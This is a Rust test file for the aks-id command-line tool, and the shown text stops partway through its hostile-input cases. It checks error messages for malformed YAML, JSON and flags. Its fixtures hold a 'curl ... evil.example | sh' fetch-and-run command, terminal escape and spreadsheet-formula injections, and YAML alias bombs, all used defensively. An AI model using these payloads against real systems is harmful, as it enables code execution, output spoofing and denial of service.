//! Bad input, everywhere input enters (answers files, stdin, piped lines, `--set`, `--rules`
//! folders, the command line): each case runs the real binary and must end with a one-line
//! `aks-id: error: ...` that names the problem, the right exit code, no panic, no backtrace, and
//! no hang. Then output failures: a closed pipe ends quietly, a full device is exit 1.

use std::fs;
use std::path::Path;
use std::process::Stdio;
use std::time::Duration;

use tempfile::TempDir;

use crate::support::{aks_id, aks_id_std, run_cmd};

/// Only against a hang: a case that never ends fails instead of blocking the suite. Far above
/// what any case takes in a debug build on a loaded machine (refusals are meant to be fast, and
/// their speed is a benchmark's business, not a test's), so that the suite never fails for
/// being slow.
const TIMEOUT: Duration = Duration::from_secs(300);

/// How a case prepares its folder before the run.
enum Setup {
    None,
    /// Files to write, relative to the case's folder.
    Files(Vec<(&'static str, Vec<u8>)>),
    /// The built-in catalog in `rules/`, then these changes.
    Rules(fn(&Path)),
    /// A file that cannot be read (chmod 000); skipped when running as root.
    Unreadable(&'static str, fn(&Path)),
}

struct Case {
    name: &'static str,
    args: Vec<String>,
    stdin: Vec<u8>,
    setup: Setup,
    code: i32,
    /// Texts that stderr must contain: the file and line:column, or the question and value.
    says: Vec<String>,
    /// A clap usage error: the error is stderr's first line, followed by clap's usage lines.
    usage: bool,
}

fn case(name: &'static str, args: &[&str], code: i32, says: &[&str]) -> Case {
    Case {
        name,
        args: args.iter().map(|a| (*a).to_owned()).collect(),
        stdin: Vec::new(),
        setup: Setup::None,
        code,
        says: says.iter().map(|s| (*s).to_owned()).collect(),
        usage: false,
    }
}

impl Case {
    fn file(mut self, rel: &'static str, bytes: impl Into<Vec<u8>>) -> Self {
        match &mut self.setup {
            Setup::Files(files) => files.push((rel, bytes.into())),
            _ => self.setup = Setup::Files(vec![(rel, bytes.into())]),
        }
        self
    }

    fn stdin(mut self, bytes: impl Into<Vec<u8>>) -> Self {
        self.stdin = bytes.into();
        self
    }

    fn rules(mut self, change: fn(&Path)) -> Self {
        self.setup = Setup::Rules(change);
        self
    }

    fn usage(mut self) -> Self {
        self.usage = true;
        self
    }
}

/// `advise --answers FILE --no-input` with FILE holding `text`.
fn answers(
    name: &'static str,
    file: &'static str,
    text: impl Into<Vec<u8>>,
    says: &[&str],
) -> Case {
    case(name, &["advise", "--no-input", "--answers", file], 2, says).file(file, text)
}

/// `advise --answers - --no-input` with `text` on stdin.
fn answers_stdin(name: &'static str, text: impl Into<Vec<u8>>, says: &[&str]) -> Case {
    case(name, &["advise", "--no-input", "--answers", "-"], 2, says).stdin(text)
}

/// `advise` with piped lines.
fn lines(name: &'static str, text: impl Into<Vec<u8>>, says: &[&str]) -> Case {
    case(name, &["advise"], 2, says).stdin(text)
}

/// `--rules rules rules check` after `change` broke the exported built-in catalog.
fn rules(name: &'static str, change: fn(&Path), says: &[&str]) -> Case {
    case(name, &["--rules", "rules", "rules", "check"], 2, says).rules(change)
}

/// `n` levels of YAML aliases, each a list of nine of the level below: 9^n nodes when expanded.
fn alias_bomb(key: &str) -> String {
    let mut text = String::from("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for level in 1..10 {
        let below = format!("*a{}", level - 1);
        let items = [below.as_str(); 9].join(", ");
        text.push_str(&format!("a{level}: &a{level} [{items}]\n"));
    }
    text.push_str(&format!("{key}: *a9\n"));
    text
}

fn cases() -> Vec<Case> {
    // Under the answers file limit, so that the parser sees it.
    let deep = "[".repeat(60_000);
    let many_lines = "# a comment line that only takes room in the answers file\n".repeat(500_000);
    let one_line = format!("scope: \"{}\"\n", "x".repeat(5_000_000));
    vec![
        // Answers files.
        answers(
            "empty answers file",
            "empty.yaml",
            "",
            &["empty.yaml: the answers file is empty"],
        ),
        answers(
            "answers file with only a comment",
            "comment.yaml",
            "# nothing yet\n",
            &["comment.yaml: the answers file is empty"],
        ),
        answers(
            "a list instead of a mapping",
            "list.yaml",
            "- scope: pod\n",
            &["list.yaml:1:1: expected a mapping from question id to answer, found a list"],
        ),
        answers(
            "a scalar instead of a mapping",
            "scalar.yaml",
            "workload\n",
            &[
                "scalar.yaml:1:1: expected a mapping",
                "found the string \"workload\"",
            ],
        ),
        answers(
            "a choice number beyond the choices",
            "nine.yaml",
            "scope: 9\n",
            &[
                "nine.yaml:1:8: question `scope`: no choice has the number `9`",
                "workload (3)",
            ],
        ),
        answers(
            "a word for a number",
            "word.yaml",
            "service_accounts: many\n",
            &["word.yaml:1:19: question `service_accounts`: not a whole number: `many`"],
        ),
        answers(
            "a number beyond 64 bits",
            "huge-number.yaml",
            "service_accounts: 99999999999999999999\n",
            &["huge-number.yaml:1:19:", "99999999999999999999"],
        ),
        answers(
            "a mapping for a value",
            "map.yaml",
            "scope: {pod: yes}\n",
            &["map.yaml:1:8: question `scope`: wrong kind of value: `a mapping`"],
        ),
        answers(
            "a list for one choice",
            "list-value.yaml",
            "scope: [pod]\n",
            &["list-value.yaml:1:8: question `scope`: wrong kind of value: `a list`"],
        ),
        answers(
            "a list inside a list",
            "nested.yaml",
            "targets: [key-vault, [sql]]\n",
            &["nested.yaml:1:22: question `targets`: not a choice id: `a list`"],
        ),
        answers(
            "a number for yes or no",
            "yes-no.yaml",
            "isolation: 1\n",
            &["yes-no.yaml:1:12: question `isolation`", "yes or no"],
        ),
        answers(
            "a duplicate key, reported where it repeats",
            "dup.yaml",
            "platform: aks\nscope: pod\nsdk: current\nscope: workload\n",
            &["dup.yaml:4:1: duplicate key `scope` (first given at line 2)"],
        ),
        answers(
            "an unknown question id",
            "unknown.yaml",
            "scope: pod\nbogus: 1\n",
            &["unknown.yaml:2:1: unknown question `bogus`; questions: scope,"],
        ),
        answers(
            "a question id that is not text",
            "number-key.yaml",
            "1: pod\n",
            &["number-key.yaml:1:1: question ids are text, found the number 1"],
        ),
        answers(
            "an alias bomb",
            "bomb.yaml",
            alias_bomb("scope"),
            &[
                "bomb.yaml:",
                "invalid YAML: more than",
                "nodes in one document",
            ],
        ),
        answers(
            "an answers file holding null is not called empty",
            "null.yaml",
            "null\n",
            &[
                "null.yaml:1:1: the answers file holds `null`; expected a mapping from question id to answer",
            ],
        ),
        answers(
            "a NUL byte, reported at its line and column",
            "nul.yaml",
            b"platform: aks\nscope: po\x00d\n".to_vec(),
            &["nul.yaml:2:10: invalid YAML: found unprintable character"],
        ),
        answers(
            "an anchored 5,000-item list repeated 9,000 times (37 kB)",
            "repeat.yaml",
            format!(
                "a: &l [{}a]\nscope: [{}*l]\n",
                "a,".repeat(4999),
                "*l,".repeat(8999)
            ),
            &[
                "repeat.yaml:2:",
                "invalid YAML: more than",
                "nodes in one document",
            ],
        ),
        answers(
            "60,000 nested lists",
            "deep.yaml",
            deep,
            &[
                "deep.yaml:1:",
                "invalid YAML: nesting deeper than 128 levels",
            ],
        ),
        answers(
            "an answers file of tens of megabytes",
            "big.yaml",
            many_lines.clone(),
            &["answers file big.yaml is 29000000 bytes; the limit is 65536 bytes"],
        ),
        answers(
            "one line of several megabytes",
            "line.yaml",
            one_line.clone(),
            &["answers file line.yaml is 5000010 bytes; the limit is 65536 bytes"],
        ),
        answers(
            "a 60 kB value is not echoed whole",
            "long.yaml",
            format!("scope: {}\n", "x".repeat(60_000)),
            &[
                "long.yaml:1:8: question `scope`: unknown choice `xxxx",
                "…",
                "workload (3)",
            ],
        ),
        answers(
            "terminal escapes in a value are not echoed raw",
            "escape.yaml",
            "scope: \"po\\e[31md\"\n",
            &["escape.yaml:1:8: question `scope`: unknown choice `po\\x1b[31md`"],
        ),
        answers(
            "invalid UTF-8",
            "binary.yaml",
            b"scope: \xff\xfe\x00\x01\n".to_vec(),
            &["answers file binary.yaml is not UTF-8 text (invalid byte at offset 7)"],
        ),
        answers(
            "a JSON syntax error",
            "bad.json",
            "{\"scope\": \"pod\",, }",
            &["bad.json:1:17: invalid JSON"],
        ),
        answers(
            "two YAML documents",
            "two.yaml",
            "scope: pod\n---\nscope: cluster\n",
            &["two.yaml:2:1: a second YAML document starts here"],
        ),
        case(
            "a missing answers file",
            &["advise", "--no-input", "--answers", "missing.yaml"],
            2,
            &["answers file missing.yaml does not exist"],
        ),
        case(
            "an answers file that is a folder",
            &["advise", "--no-input", "--answers", "folder"],
            2,
            &["answers file folder is a folder"],
        )
        .file("folder/inside.yaml", "scope: pod\n"),
        Case {
            setup: Setup::Unreadable("locked.yaml", |dir| {
                fs::write(dir.join("locked.yaml"), "scope: pod\n").unwrap();
            }),
            ..case(
                "an unreadable answers file",
                &["advise", "--no-input", "--answers", "locked.yaml"],
                1,
                &["cannot read answers file locked.yaml", "ermission denied"],
            )
        },
        // Answers on stdin (`--answers -`).
        answers_stdin(
            "empty answers on stdin",
            "",
            &["stdin: the answers file is empty"],
        ),
        answers_stdin(
            "an alias bomb on stdin",
            alias_bomb("scope"),
            &["stdin:", "nodes in one document"],
        ),
        answers_stdin(
            "tens of megabytes on stdin",
            many_lines,
            &["answers on stdin are larger than 65536 bytes"],
        ),
        answers_stdin(
            "invalid UTF-8 on stdin",
            b"scope: pod\ntargets: \xc3\x28\n".to_vec(),
            &["answers on stdin are not UTF-8 text (invalid byte at offset 20)"],
        ),
        case(
            "answers on stdin that leave a question open",
            &["advise", "--answers", "-"],
            2,
            &["question `cluster_need` is not answered in the answers read from stdin"],
        )
        .stdin("scope: cluster\n"),
        // Piped lines.
        lines(
            "an unknown choice on line 3",
            "cluster\nimage-pull\nkey-vault,nope\n",
            &[
                "stdin line 3: question `targets`: unknown choice `nope`",
                "key-vault (1), storage (2)",
            ],
        ),
        lines(
            "a line over the line limit",
            format!("{}\n", "x".repeat(200_000)),
            &["stdin line 1: the answer to question `scope` is longer than 65536 bytes"],
        ),
        lines(
            "invalid UTF-8 on a line",
            b"workload\n\xff\xfe\n".to_vec(),
            &["stdin line 2: the answer to question `targets` is not UTF-8 text"],
        ),
        lines(
            "the end of input before the last question",
            "workload\n",
            &["stdin ended before question `targets` (2 of 10) was answered"],
        ),
        lines(
            "terminal escapes on a line are not echoed raw",
            "work\x1b[31mload\n",
            &["stdin line 1: question `scope`: unknown choice `work\\x1b[31mload`"],
        ),
        // --set flags and ID=VALUE arguments.
        case(
            "--set without =",
            &["advise", "--no-input", "--set", "scope"],
            2,
            &["--set scope: expected ID=VALUE"],
        ),
        case(
            "--set with an empty value",
            &["advise", "--no-input", "--set", "scope="],
            2,
            &["--set scope=: question `scope`: empty answer"],
        ),
        case(
            "--set with an unknown question",
            &["advise", "--no-input", "--set", "bogus=1"],
            2,
            &["--set bogus=1: unknown question `bogus`"],
        ),
        case(
            "--set with a number out of range",
            &["advise", "--no-input", "--set", "service_accounts=10001"],
            2,
            &["--set service_accounts=10001: question `service_accounts`: out of range: `10001`"],
        ),
        case(
            "--set with an unknown list item",
            &["advise", "--no-input", "--set", "targets=key-vault,nope"],
            2,
            &["question `targets`: unknown choice `nope`"],
        ),
        case(
            "an ID=VALUE argument with an unknown choice",
            &["advise", "--no-input", "scope=nope"],
            2,
            &["--set scope=nope: question `scope`: unknown choice `nope`"],
        ),
        // --rules folders.
        case(
            "a missing rules folder",
            &["--rules", "nowhere", "compare"],
            2,
            &["rules folder nowhere does not exist"],
        ),
        case(
            "a rules folder that is a file",
            &["--rules", "file.yaml", "compare"],
            2,
            &["rules folder file.yaml is not a folder"],
        )
        .file("file.yaml", "rules: []\n"),
        case(
            "an empty rules folder",
            &["--rules", "empty", "compare"],
            2,
            &[
                "empty/catalog.yaml: file is missing",
                "empty/models: no model files",
            ],
        )
        .file("empty/README", ""),
        rules(
            "a rules file that is not UTF-8",
            |dir| fs::write(dir.join("rules.yaml"), b"rules:\n  - id: \xff\n").unwrap(),
            &[
                "rules/rules.yaml: not UTF-8 text (invalid byte at offset 15)",
                "the catalog has 1 problem\n",
            ],
        ),
        rules(
            "a rules file over the size limit",
            |dir| fs::write(dir.join("rules.yaml"), "# padding\n".repeat(500_000)).unwrap(),
            &[
                "rules/rules.yaml: file is 5000000 bytes; the limit is 1048576 bytes (JSON files may have up to 16777216)",
            ],
        ),
        rules(
            "an alias bomb in rules.yaml",
            |dir| fs::write(dir.join("rules.yaml"), alias_bomb("rules")).unwrap(),
            &["rules/rules.yaml:", "invalid YAML: more than"],
        ),
        rules(
            "deep nesting in catalog.yaml",
            |dir| fs::write(dir.join("catalog.yaml"), "[".repeat(100_000)).unwrap(),
            &[
                "rules/catalog.yaml:1:",
                "invalid YAML: nesting deeper than 128 levels",
            ],
        ),
        rules(
            "a rules file that is a folder",
            |dir| {
                fs::remove_file(dir.join("rules.yaml")).unwrap();
                fs::create_dir(dir.join("rules.yaml")).unwrap();
            },
            &[
                "rules/rules.yaml: is a folder, expected a YAML file",
                "the catalog has 1 problem\n",
            ],
        ),
        rules(
            "a duplicate key in questions.yaml, reported where it repeats",
            |dir| {
                let path = dir.join("questions.yaml");
                let text = fs::read_to_string(&path).unwrap();
                let text = text.replacen(
                    "    kind: one_of\n",
                    "    kind: one_of\n    kind: yes_no\n",
                    1,
                );
                fs::write(path, text).unwrap();
            },
            &["rules/questions.yaml:", "duplicate key `questions[0].kind`"],
        ),
        rules(
            "two hundred thousand bad rules",
            |dir| {
                let text = format!("rules: [{}1]\n", "1,".repeat(200_000));
                fs::write(dir.join("rules.yaml"), text).unwrap();
            },
            &[
                "rules/rules.yaml:1:9: invalid type: integer `1`, expected struct Rule",
                "`rules` has more than 20 bad entries; the 199980 after this one were not checked",
                "the catalog has 21 problems",
            ],
        ),
        rules(
            "a string of 400 kB where a list belongs",
            |dir| {
                let text = format!("rules: \"{}\"\n", "x".repeat(400_000));
                fs::write(dir.join("rules.yaml"), text).unwrap();
            },
            &[
                "rules/rules.yaml:1:8: `rules` must be a list, found the string \"xxx",
                "…",
            ],
        ),
        rules(
            "rules files over the folder limit together",
            |dir| {
                for name in ["sources.yaml", "targets.yaml", "questions.yaml"] {
                    fs::write(dir.join(name), format!("{{{}}}", " ".repeat(12_000_000))).unwrap();
                }
            },
            &["together are larger than the limit of 33554432 bytes"],
        ),
        Case {
            setup: Setup::Unreadable("rules/rules.yaml", |_| {}),
            ..rules(
                "an unreadable rules file",
                |_| {},
                &["rules/rules.yaml: cannot read"],
            )
        },
        // The command line.
        case(
            "an unknown subcommand",
            &["nope"],
            2,
            &["unrecognized subcommand 'nope'"],
        )
        .usage(),
        case(
            "an unknown flag",
            &["advise", "--bogus"],
            2,
            &["unexpected argument '--bogus'"],
        )
        .usage(),
        case(
            "--width 5",
            &["compare", "--width", "5"],
            2,
            &["'5'", "--width"],
        )
        .usage(),
        case(
            "-o nope",
            &["advise", "-o", "nope"],
            2,
            &["invalid value 'nope'"],
        )
        .usage(),
        case("show with no model", &["show"], 2, &["<MODEL>"]).usage(),
        case(
            "show with an unknown model",
            &["show", "nope"],
            2,
            &["unknown model `nope` (models: cluster, pod, workload)"],
        ),
        case(
            "--answers with no file",
            &["advise", "--answers"],
            2,
            &["--answers"],
        )
        .usage(),
    ]
}

fn is_root() -> bool {
    std::process::Command::new("id")
        .arg("-u")
        .output()
        .is_ok_and(|out| String::from_utf8_lossy(&out.stdout).trim() == "0")
}

/// Makes `rel` in `dir` unreadable; false when it stays readable (root reads anything).
fn lock(dir: &Path, rel: &str) -> bool {
    use std::os::unix::fs::PermissionsExt;
    let path = dir.join(rel);
    fs::set_permissions(&path, fs::Permissions::from_mode(0o000)).unwrap();
    !is_root() && fs::read(&path).is_err()
}

fn write_builtin(dir: &Path) {
    for (rel, text) in aks_id::catalog::builtin::FILES {
        let path = dir.join(rel);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
}

#[cfg(unix)]
#[test]
fn every_bad_input_is_a_one_line_error_with_the_right_exit_code() {
    let cases = cases();
    assert!(cases.len() >= 30, "{} cases", cases.len());
    // Four at a time: most of the time is spent waiting for the binary.
    let queue = std::sync::Mutex::new(cases);
    let skipped = std::sync::Mutex::new(Vec::new());
    let failed = std::sync::Mutex::new(Vec::new());
    std::thread::scope(|scope| {
        for _ in 0..4 {
            scope.spawn(|| {
                loop {
                    let Some(case) = queue.lock().unwrap().pop() else {
                        break;
                    };
                    // Every case runs; the failures are listed together at the end.
                    match std::panic::catch_unwind(|| check(&case)) {
                        Ok(true) => {}
                        Ok(false) => skipped.lock().unwrap().push(case.name),
                        Err(_) => failed.lock().unwrap().push(case.name),
                    }
                }
            });
        }
    });
    for name in skipped.into_inner().unwrap() {
        eprintln!("note: skipped `{name}`: running as root, a chmod 000 file stays readable");
    }
    let failed = failed.into_inner().unwrap();
    assert!(failed.is_empty(), "failing cases: {failed:#?}");
}

/// Runs one case and checks what it printed; false when it had to be skipped.
fn check(case: &Case) -> bool {
    let dir = TempDir::new().unwrap();
    match &case.setup {
        Setup::None => {}
        Setup::Files(files) => {
            for (rel, bytes) in files {
                let path = dir.path().join(rel);
                fs::create_dir_all(path.parent().unwrap()).unwrap();
                fs::write(path, bytes).unwrap();
            }
        }
        Setup::Rules(change) => {
            let rules = dir.path().join("rules");
            write_builtin(&rules);
            change(&rules);
        }
        Setup::Unreadable(rel, make) => {
            write_builtin(&dir.path().join("rules"));
            make(dir.path());
            if !lock(dir.path(), rel) {
                return false;
            }
        }
    }
    let mut cmd = aks_id();
    cmd.current_dir(dir.path())
        .args(&case.args)
        .write_stdin(case.stdin.clone())
        .timeout(TIMEOUT);
    let run = run_cmd(&mut cmd);
    let name = case.name;
    let stderr = &run.stderr;
    assert_eq!(run.code, case.code, "{name}: exit code; stderr:\n{stderr}");
    assert_eq!(run.stdout, "", "{name}: an error prints nothing on stdout");
    for banned in ["panicked", "stack backtrace", "RUST_BACKTRACE", "\x1b"] {
        assert!(!stderr.contains(banned), "{name}: {banned:?} in\n{stderr}");
    }
    let error_line = if case.usage {
        stderr.lines().next()
    } else {
        stderr.lines().last()
    }
    .unwrap_or_default();
    assert!(
        error_line.starts_with("aks-id: error: "),
        "{name}: the error line is {error_line:?}; stderr:\n{stderr}"
    );
    assert!(
        error_line.chars().count() < 600,
        "{name}: a short error line, not {} characters",
        error_line.chars().count()
    );
    assert!(
        stderr.len() < 20_000,
        "{name}: {} bytes on stderr",
        stderr.len()
    );
    for text in &case.says {
        assert!(
            stderr.contains(text.as_str()),
            "{name}: {text:?} not in\n{stderr}"
        );
    }
    true
}

/// `aks-id ARGS` with its stdout closed before it writes.
fn into_closed_pipe(args: &[&str]) -> (i32, String) {
    let mut child = aks_id_std()
        .args(args)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("aks-id starts");
    drop(child.stdout.take());
    let out = child.wait_with_output().expect("aks-id ends");
    (
        out.status.code().expect("exits, not killed by SIGPIPE"),
        String::from_utf8(out.stderr).unwrap(),
    )
}

const OUTPUTS: &[&[&str]] = &[
    &["advise", "--no-input", "-o", "json"],
    &["advise", "--no-input"],
    &["questions"],
    &["questions", "-o", "json"],
    &["show", "pod"],
    &["models"],
    &["completions", "bash"],
    &["man"],
];

#[test]
fn every_command_ends_quietly_into_a_closed_pipe() {
    for args in OUTPUTS {
        let (code, stderr) = into_closed_pipe(args);
        assert_eq!(code, 0, "{args:?}: {stderr}");
        assert_eq!(stderr, "", "{args:?}");
    }
}

#[cfg(target_os = "linux")]
#[test]
fn every_command_into_a_full_device_is_exit_1_with_one_line() {
    for args in OUTPUTS {
        let full = fs::File::create("/dev/full").expect("/dev/full");
        let out = aks_id_std()
            .args(*args)
            .stdin(Stdio::null())
            .stdout(full)
            .output()
            .unwrap();
        let stderr = String::from_utf8(out.stderr).unwrap();
        assert_eq!(out.status.code(), Some(1), "{args:?}: {stderr}");
        assert_eq!(stderr.lines().count(), 1, "{args:?}: {stderr}");
        assert!(
            stderr.starts_with("aks-id: error: cannot write output: "),
            "{args:?}: {stderr}"
        );
        assert!(!stderr.contains("panicked") && !stderr.contains("backtrace"));
    }
}

// ---------------------------------------------------------------------------------------------
// The program-wide rules (docs/security.md), one table: hostile text never reaches the terminal
// raw, Markdown and CSV are escaped for their context, reads are bounded and of regular files,
// writes never go through a link, scores cannot overflow, digit ids are ids, no step grows
// faster than its input, and messages say what is wrong.

/// A hostile case: a folder prepared by `setup`, a run, and what its output must and must not
/// hold. Every case also checks that no hidden character (see `aks_id::display::is_hidden`)
/// other than a line feed reaches stderr, nor stdout unless the output is JSON or YAML.
struct Hostile {
    name: &'static str,
    setup: fn(&Path),
    args: Vec<String>,
    env: Vec<(&'static str, String)>,
    stdin: Vec<u8>,
    code: i32,
    stdout_has: Vec<String>,
    stdout_lacks: Vec<String>,
    stderr_has: Vec<String>,
    /// JSON or YAML on stdout: exact, so hidden characters may be in it (escaped by JSON).
    exact: bool,
    /// Checks on the folder after the run.
    after: fn(&Path),
}

fn hostile(name: &'static str, setup: fn(&Path), args: &[&str], code: i32) -> Hostile {
    Hostile {
        name,
        setup,
        args: args.iter().map(|a| (*a).to_owned()).collect(),
        env: Vec::new(),
        stdin: Vec::new(),
        code,
        stdout_has: Vec::new(),
        stdout_lacks: Vec::new(),
        stderr_has: Vec::new(),
        exact: false,
        after: |_| {},
    }
}

impl Hostile {
    fn out(mut self, texts: &[&str]) -> Self {
        self.stdout_has
            .extend(texts.iter().map(|t| (*t).to_owned()));
        self
    }
    fn not_out(mut self, texts: &[&str]) -> Self {
        self.stdout_lacks
            .extend(texts.iter().map(|t| (*t).to_owned()));
        self
    }
    fn err(mut self, texts: &[&str]) -> Self {
        self.stderr_has
            .extend(texts.iter().map(|t| (*t).to_owned()));
        self
    }
    fn stdin(mut self, bytes: impl Into<Vec<u8>>) -> Self {
        self.stdin = bytes.into();
        self
    }
    fn env(mut self, key: &'static str, value: &str) -> Self {
        self.env.push((key, value.to_owned()));
        self
    }
    fn exact(mut self) -> Self {
        self.exact = true;
        self
    }
    fn after(mut self, check: fn(&Path)) -> Self {
        self.after = check;
        self
    }
}

/// Replaces `from` (there exactly once) in the file `rel` of the folder `dir`.
fn edit(dir: &Path, rel: &str, from: &str, to: &str) {
    crate::support::replace(dir, rel, from, to);
}

/// The built-in catalog in `rules/`, with hostile texts (YAML escapes: `\e` is ESC, `\a` BEL,
/// `\r` a carriage return, `\u202E` a right-to-left override) in a model name, a setup command
/// and a next step's command, a source title, a row label and a question prompt.
fn hostile_rules(dir: &Path) {
    let rules = dir.join("rules");
    write_builtin(&rules);
    edit(
        &rules,
        "models/workload.yaml",
        "name: Microsoft Entra Workload ID",
        r#"name: "Workload\e]0;pwned\aID\e[2J \u202Edi [x](https://evil.example) ![i](https://evil.example/i.png)""#,
    );
    edit(
        &rules,
        "models/workload.yaml",
        "command: az aks update --resource-group <resource-group> --name <cluster> --enable-oidc-issuer --enable-workload-identity",
        r#"command: "curl -s https://evil.example/x | sh\raz aks update --enable-oidc-issuer\n```\n# Injected heading""#,
    );
    edit(
        &rules,
        "rules.yaml",
        "command: az aks update -g <resource-group> -n <cluster> --enable-oidc-issuer --enable-workload-identity",
        r#"command: "curl -s https://evil.example/x | sh\raz aks update -g rg -n c\n```\n# Injected heading""#,
    );
    edit(
        &rules,
        "sources.yaml",
        "title: Managed identities in Azure Kubernetes Service (AKS) - overview",
        r#"title: "Evil](https://evil.example) \e[31mred""#,
    );
    edit(
        &rules,
        "catalog.yaml",
        "label: Overview",
        r#"label: "=HYPERLINK(\"https://evil.example\") \e[2J""#,
    );
    edit(
        &rules,
        "questions.yaml",
        "prompt: What needs to reach Azure?",
        r#"prompt: "What \e[2Jneeds\u202E to reach Azure?""#,
    );
}

/// The built-in catalog in `rules/`, with a question whose choices are digits in another order.
fn digit_choices(dir: &Path) {
    let rules = dir.join("rules");
    write_builtin(&rules);
    let path = rules.join("questions.yaml");
    let mut text = fs::read_to_string(&path).unwrap();
    text.push_str(
        "  - id: zones\n    prompt: How many availability zones?\n    help: Zones.\n    kind: one_of\n    \
         choices:\n      - {id: \"3\", label: Three}\n      - {id: \"1\", label: One}\n      - {id: \"2\", label: Two}\n    \
         default: \"3\"\n",
    );
    fs::write(path, text).unwrap();
}

/// The built-in catalog in `rules/`, with one rule's score changed to `score`.
fn score_rules(dir: &Path, score: &str) {
    let rules = dir.join("rules");
    write_builtin(&rules);
    let path = rules.join("rules.yaml");
    let text = fs::read_to_string(&path).unwrap();
    let (at, _) = text
        .match_indices("workload: ")
        .next()
        .expect("a workload score");
    let end = at + text[at..].find(['\n', ',', '}']).unwrap();
    let text = format!("{}workload: {score}{}", &text[..at], &text[end..]);
    fs::write(path, text).unwrap();
}

/// The built-in catalog in `rules/` plus `questions` generated yes/no questions; `chained`: each
/// asked only when the one before is answered yes.
fn many_questions(dir: &Path, questions: usize, chained: bool) {
    let rules = dir.join("rules");
    write_builtin(&rules);
    let path = rules.join("questions.yaml");
    let mut text = fs::read_to_string(&path).unwrap();
    for i in 0..questions {
        text.push_str(&format!(
            "  - {{id: g{i}, prompt: Generated {i}?, help: h, kind: yes_no, default: true"
        ));
        if chained && i > 0 {
            text.push_str(&format!(
                ", asked_when: {{question: g{}, equals: true}}",
                i - 1
            ));
        }
        text.push_str("}\n");
    }
    if text.len() > 1_000_000 {
        // Over the YAML limit: written as JSON, as a generator would.
        let value: serde_json::Value = serde_yaml::from_str(&text).unwrap();
        text = serde_json::to_string(&value).unwrap();
    }
    fs::write(path, text).unwrap();
}

/// The built-in catalog in `rules/` plus an any_of question with 10,000 choices, which 10,000
/// generated rules test, and `a.yaml` answering it with 6,000 of them.
fn many_choices(dir: &Path) {
    let rules = dir.join("rules");
    write_builtin(&rules);
    let read = |rel: &str| -> serde_json::Value {
        serde_yaml::from_str(&fs::read_to_string(rules.join(rel)).unwrap()).unwrap()
    };
    let mut questions = read("questions.yaml");
    let choices: Vec<serde_json::Value> = (0..10_000)
        .map(|i| serde_json::json!({"id": format!("c{i}"), "label": format!("Choice {i}")}))
        .collect();
    questions["questions"]
        .as_array_mut()
        .unwrap()
        .push(serde_json::json!({
            "id": "many", "prompt": "Which?", "help": "h", "kind": "any_of",
            "choices": choices, "default": []
        }));
    let mut rules_file = read("rules.yaml");
    let source = rules_file["rules"][0]["sources"][0].clone();
    for i in 0..10_000 {
        rules_file["rules"].as_array_mut().unwrap().push(serde_json::json!({
            "id": format!("many-{i}"),
            "when": {"question": "many", "contains_any": [format!("c{i}"), format!("c{}", 9_999 - i)]},
            "caveats": [{"model": "workload", "text": "Generated."}],
            "sources": [source]
        }));
    }
    fs::write(rules.join("questions.yaml"), questions.to_string()).unwrap();
    fs::write(rules.join("rules.yaml"), rules_file.to_string()).unwrap();
    let list: Vec<String> = (0..6_000).map(|i| format!("c{i}")).collect();
    fs::write(dir.join("a.yaml"), format!("many: [{}]\n", list.join(", "))).unwrap();
}

/// The built-in catalog in `rules/` plus 40,000 sources, all cited by one always-firing rule.
fn many_sources(dir: &Path) {
    let rules = dir.join("rules");
    write_builtin(&rules);
    let read = |rel: &str| -> serde_json::Value {
        serde_yaml::from_str(&fs::read_to_string(rules.join(rel)).unwrap()).unwrap()
    };
    let mut sources = read("sources.yaml");
    let mut rules_file = read("rules.yaml");
    let list = sources["sources"].as_array_mut().unwrap();
    let mut ids = Vec::new();
    for i in 0..40_000 {
        let id = format!("generated-{i}");
        list.push(serde_json::json!({
            "id": id, "title": format!("Page {i}"),
            "url": format!("https://example.com/{i}"), "as_of": "2026-01"
        }));
        ids.push(id);
    }
    rules_file["rules"]
        .as_array_mut()
        .unwrap()
        .push(serde_json::json!({
            "id": "cites-everything",
            "caveats": [{"model": "workload", "text": "Generated."}],
            "sources": ids
        }));
    fs::write(rules.join("sources.yaml"), sources.to_string()).unwrap();
    fs::write(rules.join("rules.yaml"), rules_file.to_string()).unwrap();
}

#[cfg(unix)]
fn fifo(path: &Path) {
    let c = std::ffi::CString::new(path.to_str().unwrap()).unwrap();
    // SAFETY: a valid C string naming a path in the case's temporary folder.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
}

fn builtin_files() -> Vec<String> {
    let mut files: Vec<String> = aks_id::catalog::builtin::FILES
        .iter()
        .map(|(rel, _)| (*rel).to_owned())
        .collect();
    files.push("schema.json".to_owned());
    files
}

/// The case folder's entries, for checks that nothing was left beside an export.
fn entries(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

fn hostile_cases() -> Vec<Hostile> {
    let rules = |args: &[&str]| {
        let mut all = vec!["--rules", "rules"];
        all.extend_from_slice(args);
        all.iter().map(|a| (*a).to_owned()).collect::<Vec<String>>()
    };
    let with_rules = |name, setup: fn(&Path), args: &[&str], code| Hostile {
        args: rules(args),
        ..hostile(name, setup, &[], code)
    };
    let injected_heading = "\n# Injected heading";
    vec![
        // 1. No write can panic; a failed diagnostic write never loses the result.
        hostile(
            "a warning into a full stderr keeps the advice (reproducer)",
            |_| {},
            &[
                "advise", "--no-input", "--set", "scope=cluster", "--set", "sdk=current",
                "-o", "json",
            ],
            0,
        )
        .out(&["\"recommendation\": {", "\"model\": \"cluster\""])
        .exact(),
        // 6. Untrusted text on the terminal: every human-readable output.
        with_rules("hostile catalog: compare table", hostile_rules, &["compare", "--width", "1000"], 0)
            .out(&["Workload\\x1b]0;pwned\\x07ID\\x1b[2J \\u{202e}di", "Evil](https://evil.example) \\x1b[31mred"]),
        with_rules("hostile catalog: show text", hostile_rules, &["show", "workload"], 0)
            .out(&["curl -s https://evil.example/x | sh\\raz aks update --enable-oidc-issuer"]),
        with_rules("hostile catalog: advise text", hostile_rules, &["advise", "--no-input"], 0)
            .out(&["sh\\raz aks update -g rg -n c", "Workload\\x1b]0;pwned\\x07ID"]),
        with_rules(
            "hostile catalog: advise text with colours on",
            hostile_rules,
            &["--color", "always", "advise", "--no-input", "--explain"],
